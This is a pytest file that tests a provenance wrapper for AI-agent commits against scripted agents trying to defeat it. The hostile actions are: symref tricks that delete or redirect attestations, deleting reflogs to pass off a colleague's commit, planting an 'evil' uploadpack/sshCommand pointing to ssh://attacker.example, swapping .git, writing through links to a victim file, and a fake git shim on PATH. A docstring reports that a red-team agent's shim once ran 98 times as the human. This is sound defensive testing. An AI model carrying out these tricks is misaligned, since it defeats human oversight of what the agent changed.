"""What an agent can do to the refs, remotes and files around the wrapper, and what it gets.

Real git, scripted agents, the local Sigstore instance (THREATS.md G59, G61, G62).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from provenance.app.pending_stamps import complete_pending
from provenance.app.run import run_session
from provenance.app.stamp import stamp
from provenance.devinstance import DevInstance
from provenance.errors import GitError, StoreError
from provenance.gitio import Git
from provenance.sign.signing import SigningOptions
from provenance.store.pending import PENDING_REF, list_pending
from tests.app.test_run import GIT_IDENTITY, head, script
from tests.conftest import AGENT_ID, Golden, make_golden, session
from tests.helpers import GitRepo

BOB = {
    "GIT_AUTHOR_NAME": "Bob",
    "GIT_AUTHOR_EMAIL": "bob@example.com",
    "GIT_COMMITTER_NAME": "Bob",
    "GIT_COMMITTER_EMAIL": "bob@example.com",
}


@pytest.fixture
def lab(tmp_path: Path, dev: DevInstance) -> Golden:
    return make_golden(tmp_path / "lab", dev)


@pytest.fixture(autouse=True)
def _git_identity(monkeypatch: pytest.MonkeyPatch) -> None:
    for key, value in GIT_IDENTITY.items():
        monkeypatch.setenv(key, value)


def _remote_and_clone(lab: Golden, tmp_path: Path) -> tuple[Path, GitRepo]:
    """A bare remote of the lab repository and a clone of it to run the session in."""
    remote = tmp_path / "remote.git"
    subprocess.run(["git", "clone", "-q", "--bare", str(lab.repo.path), str(remote)], check=True)
    work = GitRepo(tmp_path / "work")
    subprocess.run(["git", "clone", "-q", str(remote), str(work.path)], check=True)
    return remote, work


def _registry() -> list[Path]:
    root = Path(os.environ["XDG_STATE_HOME"]) / "provenance" / "pending"
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def test_a_pending_ref_made_a_symref_to_the_notes_ref_cannot_delete_the_attestation(
    lab: Golden, tmp_path: Path
) -> None:
    """THREATS.md G59: clearing the pending entry through a symref deleted the stamp (exit 0)."""
    start = head(lab.repo)
    agent = script(
        tmp_path / "symref.sh",
        "#!/bin/sh\nset -e\n"
        "printf 'S = 1\\n' > app/auth/sym.py\ngit add -A\ngit commit -q -m 'agent: sym'\n"
        f"git symbolic-ref {PENDING_REF} refs/notes/provenance\n",
    )
    result = run_session(lab.repo.path, agent, session(), lab.keyless(), cwd=lab.repo.path)
    (sha,) = lab.repo.git("rev-list", f"{start}..HEAD").split()
    assert [s.commit for s in result.stamped] == [sha] and result.pending == []
    assert lab.verify(sha).commits[0].status == "ok"
    assert lab.verify(start).commits[0].status == "ok"  # the older attestation survived too


def test_a_notes_ref_made_a_symref_is_never_written_through(lab: Golden, tmp_path: Path) -> None:
    """THREATS.md G59: the attestation never lands in the ref a symref points to."""
    start = head(lab.repo)
    agent = script(
        tmp_path / "symref.sh",
        "#!/bin/sh\nset -e\n"
        "printf 'S = 2\\n' > app/auth/sym2.py\ngit add -A\ngit commit -q -m 'agent: sym'\n"
        'git update-ref refs/notes/agent "$(git rev-parse refs/notes/provenance)"\n'
        "git symbolic-ref refs/notes/provenance refs/notes/agent\n",
    )
    result = run_session(lab.repo.path, agent, session(), lab.keyless(), cwd=lab.repo.path)
    (sha,) = lab.repo.git("rev-list", f"{start}..HEAD").split()
    assert result.stamped == [] and [c for c, _ in result.pending] == [sha]
    assert "symbolic ref" in result.pending[0][1]
    assert sha not in lab.repo.git("notes", "--ref=refs/notes/agent", "list")
    with pytest.raises(StoreError, match="symbolic ref"):
        stamp(lab.repo.path, sha, session(), lab.keyless())


def test_a_colleagues_commit_fetched_during_the_session_is_not_signed_without_reflogs(
    lab: Golden, tmp_path: Path
) -> None:
    """THREATS.md G61: deleting the remote-tracking reflog no longer relabels Bob's commit."""
    remote, work = _remote_and_clone(lab, tmp_path)
    bob = GitRepo(tmp_path / "bob")
    subprocess.run(["git", "clone", "-q", str(remote), str(bob.path)], check=True)
    bob_env = " ".join(f"{k}='{v}'" for k, v in BOB.items())
    agent = script(
        tmp_path / "pull.sh",
        "#!/bin/sh\nset -e\n"
        f"cd {bob.path}\nprintf 'ADMIN = True\\n' > app/auth/admin.py\ngit add -A\n"
        f"env {bob_env} git commit -q -m 'bob: is_admin'\ngit push -q origin HEAD:main\n"
        f"cd {work.path}\ngit pull -q --ff-only origin main\n"
        "rm -rf .git/logs/refs/remotes\n"  # what told the old wrapper it was fetched
        "printf 'A = 1\\n' > app/auth/agent.py\ngit add -A\ngit commit -q -m 'agent: own'\n",
    )
    result = run_session(work.path, agent, session(), lab.keyless(), cwd=work.path)
    subject = {s: work.git("log", "-1", "--format=%s", s) for s in work.git(
        "rev-list", "-2", "HEAD").split()}  # fmt: skip
    assert [subject[s.commit] for s in result.stamped] == ["agent: own"]
    assert [(subject[c], why) for c, why in result.skipped] == [
        ("bob: is_admin", "committed by bob@example.com, not by the session's agent@example.com")
    ]


def test_an_agent_commit_pushed_by_url_from_a_hidden_ref_is_stamped(
    lab: Golden, tmp_path: Path
) -> None:
    """THREATS.md G62d: a commit under refs/notes/… pushed by URL is found on the remote."""
    remote, work = _remote_and_clone(lab, tmp_path)
    agent = script(
        tmp_path / "hide.sh",
        "#!/bin/sh\nset -e\ngit checkout -q --detach\n"
        "printf 'H = 1\\n' > app/auth/hidden.py\ngit add -A\ngit commit -q -m 'agent: hidden'\n"
        "git update-ref refs/notes/hide HEAD\n"
        f"git push -q '{remote}' HEAD:refs/heads/agent-side\ngit checkout -q main\n",
    )
    result = run_session(work.path, agent, session(), lab.keyless(), cwd=work.path)
    hidden = work.git("rev-parse", "refs/notes/hide")
    assert [s.commit for s in result.stamped] == [hidden]
    assert result.undecided == []


def test_a_remote_that_cannot_be_read_is_listed_as_undecided(lab: Golden, tmp_path: Path) -> None:
    """THREATS.md G61: what could not be compared is said, not silently assumed."""
    lab.repo.git("remote", "add", "gone", str(tmp_path / "no-such-remote.git"))
    result = run_session(lab.repo.path, ["true"], session(), lab.keyless(), cwd=lab.repo.path)
    assert len(result.undecided) == 2 and "remote gone could not be read" in result.undecided[0]


def test_the_remote_programs_the_agent_configures_never_run_in_the_wrapper(
    lab: Golden, tmp_path: Path
) -> None:
    """THREATS.md G53: the wrapper reads remotes after the session without the repo's config."""
    _, work = _remote_and_clone(lab, tmp_path)
    sentinel = tmp_path / "sentinel"
    evil = script(tmp_path / "evil.sh", f"#!/bin/sh\nenv >> '{sentinel}'\nexit 1\n")[0]
    agent = script(
        tmp_path / "plant.sh",
        "#!/bin/sh\nset -e\n"
        f"git config remote.origin.uploadpack '{evil}'\n"
        f"git config core.sshCommand '{evil}'\n"
        "git config remote.origin.url ssh://attacker.example/x.git\n",
    )
    token = lab.inst.issue_token(AGENT_ID)
    signing = SigningOptions(identity_token=token, trust_config=lab.inst.trust_config_path)
    result = run_session(work.path, agent, session(), signing, cwd=work.path)
    assert not sentinel.exists()
    assert result.undecided == []  # the pinned URL was read after the session too


def test_stamp_pending_stores_where_the_session_meant_not_where_the_commit_says(
    lab: Golden, tmp_path: Path
) -> None:
    """THREATS.md G62a: the agent commit's own policy cannot redirect a completed stamp."""
    start = head(lab.repo)
    agent = script(
        tmp_path / "redirect.sh",
        "#!/bin/sh\nset -e\n"
        "sed -i 's|^version = 1$|version = 1\\nnotes_ref = \"refs/notes/elsewhere\"|' "
        ".provenance/policy.toml\nprintf 'R = 1\\n' > app/auth/r.py\n"
        "git add -A\ngit commit -q -m 'agent: elsewhere'\n",
    )
    dead = tmp_path / "dead.json"
    dead.write_text(
        lab.inst.trust_config_path.read_text().replace(lab.inst.url, "http://127.0.0.1:9")
    )
    offline = SigningOptions(identity_token=lab.inst.issue_token(AGENT_ID), trust_config=dead)
    result = run_session(lab.repo.path, agent, session(), offline, cwd=lab.repo.path)
    (sha,) = lab.repo.git("rev-list", f"{start}..HEAD").split()
    assert [c for c, _ in result.pending] == [sha]
    done = complete_pending(lab.repo.path, lab.keyless())
    assert [s.commit for s in done.completed] == [sha]
    assert len(lab.notes(sha)) == 1  # refs/notes/provenance, the ref of the session's start
    assert lab.repo.git("for-each-ref", "refs/notes/elsewhere") == ""


def test_a_successful_run_leaves_no_registry_entries(lab: Golden, tmp_path: Path) -> None:
    """THREATS.md G62h: registry entries are removed once their stamps are stored."""
    before = _registry()
    agent = script(
        tmp_path / "one.sh",
        "#!/bin/sh\nset -e\nprintf 'O = 1\\n' > app/auth/o.py\ngit add -A\n"
        "git commit -q -m 'agent: one'\n",
    )
    result = run_session(lab.repo.path, agent, session(), lab.keyless(), cwd=lab.repo.path)
    assert len(result.stamped) == 1
    assert _registry() == before
    assert list_pending(Git.discover(lab.repo.path)) == []


def test_replacing_the_git_directory_during_the_session_signs_nothing(
    lab: Golden, tmp_path: Path
) -> None:
    """THREATS.md G62c: a .git swapped for a link to another repository is refused."""
    other = tmp_path / "other"
    subprocess.run(["git", "clone", "-q", str(lab.repo.path), str(other)], check=True)
    agent = script(
        tmp_path / "swap.sh",
        "#!/bin/sh\nset -e\n"
        f"cd '{other}'\nprintf 'X = 1\\n' > app/auth/x.py\ngit add -A\n"
        "git commit -q -m 'someone else'\n"
        f"cd '{lab.repo.path}'\nmv .git '{tmp_path}/moved.git'\nln -s '{other}/.git' .git\n",
    )
    try:
        with pytest.raises(GitError, match="replaced during the session"):
            run_session(lab.repo.path, agent, session(), lab.keyless(), cwd=lab.repo.path)
        assert "provenance" not in subprocess.run(
            ["git", "-C", str(other), "for-each-ref", "refs/notes/"],
            capture_output=True, text=True, check=True,
        ).stdout  # fmt: skip
    finally:
        (lab.repo.path / ".git").unlink()
        (tmp_path / "moved.git").rename(lab.repo.path / ".git")


@pytest.mark.parametrize("planted", ["symlink", "hardlink", "fifo"])
def test_run_report_never_writes_through_what_the_agent_planted(
    lab: Golden, tmp_path: Path, planted: str
) -> None:
    """THREATS.md G62b: --report refuses links and special files instead of following them."""
    from tests.app.test_run import cli

    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    report = lab.repo.path / "report.json"
    agent_cmd = {
        "symlink": f"ln -s '{victim}' '{report}'",
        "hardlink": f"ln '{victim}' '{report}'",
        "fifo": f"mkfifo '{report}'",
    }[planted]
    proc = cli(
        ["run", "--agent", "a", "--model", "m", "--prompter", "p@example.com",
         "--prompt-digest", "sha256:" + "3" * 64, "--report", str(report),
         "--trust-config", str(lab.inst.trust_config_path), "--", "sh", "-c", agent_cmd],
        lab.repo.path, {"PROVENANCE_IDENTITY_TOKEN": lab.inst.issue_token(AGENT_ID)},
        stdin=subprocess.DEVNULL,
    )  # fmt: skip
    _, stderr = proc.communicate(timeout=60)
    report.unlink()
    assert victim.read_text() == "precious\n"
    assert proc.returncode == 2, stderr.decode()
    assert b"--report" in stderr


SHIM = '#!/bin/sh\necho "$(id -u) $*" >> \'{sentinel}\'\nexec /usr/bin/git "$@"\n'


def test_a_git_the_agent_plants_on_a_relative_path_entry_never_runs(
    lab: Golden, tmp_path: Path
) -> None:
    """THREATS.md G53 (variant): ``./node_modules/.bin`` or an empty entry in the human's PATH.

    The red-team review's agent left ``node_modules/.bin/git`` in the work tree, and the
    wrapper ran it as the human for every git call after the session (98 times).
    """
    sentinel = tmp_path / "shim-ran"
    agent = script(
        tmp_path / "plant.sh",
        "#!/bin/sh\nset -e\n"
        "printf 'S = 2\\n' > app/auth/shim.py\n"
        "/usr/bin/git add app/auth/shim.py\n/usr/bin/git commit -q -m 'agent: shim'\n"
        "mkdir -p node_modules/.bin bin\n"
        f"for d in node_modules/.bin bin .; do cat > $d/git <<'EOF'\n"
        f"{SHIM.format(sentinel=sentinel)}EOF\nchmod 755 $d/git\ndone\n",
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("PROVENANCE_")}
    env.update(GIT_IDENTITY)
    env["PATH"] = f"./node_modules/.bin:bin::{os.environ['PATH']}"
    env["PROVENANCE_IDENTITY_TOKEN"] = lab.inst.issue_token(AGENT_ID)
    report = tmp_path / "report.json"
    proc = subprocess.run(
        [str(Path(sys.executable).with_name("provenance")), "run", "--agent", "a",
         "--model", "m", "--prompter", "p@example.com", "--prompt-digest", "sha256:" + "3" * 64,
         "--trust-config", str(lab.inst.trust_config_path), "--report", str(report), "--",
         *agent],
        cwd=lab.repo.path, env=env, capture_output=True, text=True, check=False, timeout=120,
        stdin=subprocess.DEVNULL,
    )  # fmt: skip
    for planted in ("node_modules", "bin", "git"):
        path = lab.repo.path / planted
        shutil.rmtree(path) if path.is_dir() else path.unlink()
    assert not sentinel.exists(), sentinel.read_text()
    assert proc.returncode == 0, proc.stderr
    assert len(json.loads(report.read_text())["stamped"]) == 1
